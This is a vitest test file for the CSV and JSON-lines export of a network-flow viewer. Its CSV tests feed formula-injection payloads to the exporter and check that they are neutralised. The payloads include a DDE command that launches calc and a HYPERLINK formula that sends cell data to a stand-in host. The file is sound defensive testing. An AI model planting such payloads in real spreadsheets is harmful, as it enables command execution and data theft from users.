import { describe, expect, it } from "vitest";

import { csvField, csvHead, csvLine } from "../../src/export/csv";
import { jsonLine } from "../../src/export/jsonlines";
import { fileName, RowWriter } from "../../src/export/writer";
import { COLUMNS, LOCAL_READING } from "../../src/flow/columns";
import { Ring } from "../../src/stores/ring";
import type { Row } from "../../src/stores/row";
import type { Flow } from "../../src/wire/flow";

/** Reads RFC 4180 by its grammar, in a way that has nothing in common with how it is written. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let rest = text;
  while (rest !== "") {
    const field = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest);
    if (field === null) throw new Error(`not RFC 4180: ${JSON.stringify(rest.slice(0, 60))}`);
    record.push(field[1]?.replaceAll('""', '"') ?? field[2] ?? "");
    if (field[3] === "\r\n") {
      records.push(record);
      record = [];
    }
    rest = rest.slice(field[0].length);
  }
  return records;
}

function rows(flows: readonly Flow[]): Row[] {
  const ring = new Ring(flows.length + 1);
  for (const flow of flows) ring.push(flow);
  return flows.map((_, index) => ring.at(index) as Row);
}

describe("CSV", () => {
  it.each([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "x"', '"say ""x"""'],
    ["two\r\nlines", "two\\u000d\\u000alines"],
    ["esc\u001b[31m", "esc\\u001b[31m"],
    ["", ""],
  ])("writes %j as %j", (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n\n @x",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "|x",
    "%x",
  ])("takes the formula out of %j", (text) => {
    expect(readCsv(`${csvField(text)}\r\n`)).toEqual([[expect.stringMatching(/^'/)]]);
  });

  it("is read back as what the columns say, whatever a workload is called", () => {
    const flows: Flow[] = ["a,b", 'q"q', "\r\n", "é世界", ",", '"', ""].map((name) => ({
      time: "2026-01-02T03:04:05.678901234Z",
      verdict: "DROPPED",
      source: { namespace: name, pod_name: `x${name}` },
    }));
    const text = csvHead(COLUMNS) + flows.map((flow) => csvLine(flow, COLUMNS, LOCAL_READING)).join("");
    const [head, ...records] = readCsv(text);
    expect(head).toEqual(COLUMNS.map(({ title }) => title));
    expect(records.map((record) => record.length)).toEqual(flows.map(() => COLUMNS.length));
    expect(records[0]?.[0]).toBe("2026-01-02T03:04:05.678901234Z");
    expect(records.map((record) => record[3])).toEqual([
      ...["a,b/xa,b", 'q"q/xq"q', "\\u000d\\u000a/x\\u000d\\u000a", "é世界/xé世界", "',/x,".slice(1), '"/x"', "/x"],
    ]);
  });
});

describe("JSON lines", () => {
  it("have the form of hubble's own", () => {
    const flow: Flow = { uuid: "u", time: "2026-01-02T03:04:05Z", node_name: "default/n", verdict: "DROPPED" };
    const line = jsonLine(flow);
    expect(line.endsWith("}\n")).toBe(true);
    expect(JSON.parse(line)).toEqual({ flow, node_name: "default/n", time: "2026-01-02T03:04:05Z" });
  });

  it("are one line each, whatever is in them", () => {
    expect(jsonLine({ uuid: "a\nb\r\u001b" })).toBe(`{"flow":{"uuid":"a\\nb\\r\\u001b"}}\n`);
    expect(JSON.parse(jsonLine({}))).toEqual({ flow: {} });
  });

  it("leave out what is nested too deeply to be written", () => {
    const deep: unknown = JSON.parse(`${"[".repeat(50_000)}${"]".repeat(50_000)}`);
    expect(jsonLine({ deep } as Flow)).toBe("");
  });
});

describe("a writer", () => {
  it("stops when its time is up, and goes on where it was", () => {
    const flows: Flow[] = Array.from({ length: 1_000 }, (_, index) => ({ uuid: `u${index}` }));
    const writer = new RowWriter(rows(flows), "head\n", (row) => `${row.flow.uuid ?? ""}\n`);
    let ms = 0;
    const clock = (): number => (ms += 1);
    const chunks: string[] = [];
    while (!writer.done) chunks.push(writer.write(clock, 2));
    expect(chunks.length).toBeGreaterThan(5);
    expect(chunks.join("")).toBe(`head\n${flows.map(({ uuid }) => `${uuid ?? ""}\n`).join("")}`);
  });

  it("writes the head alone where there are no rows", () => {
    const writer = new RowWriter([], "head\n", () => "");
    expect([writer.write(() => 0, 1), writer.done]).toEqual(["head\n", true]);
  });

  it("names its file by the time", () => {
    expect(fileName(Date.UTC(2026, 0, 2, 3, 4, 5), "csv")).toBe("hubblecast-20260102T030405Z.csv");
  });
});
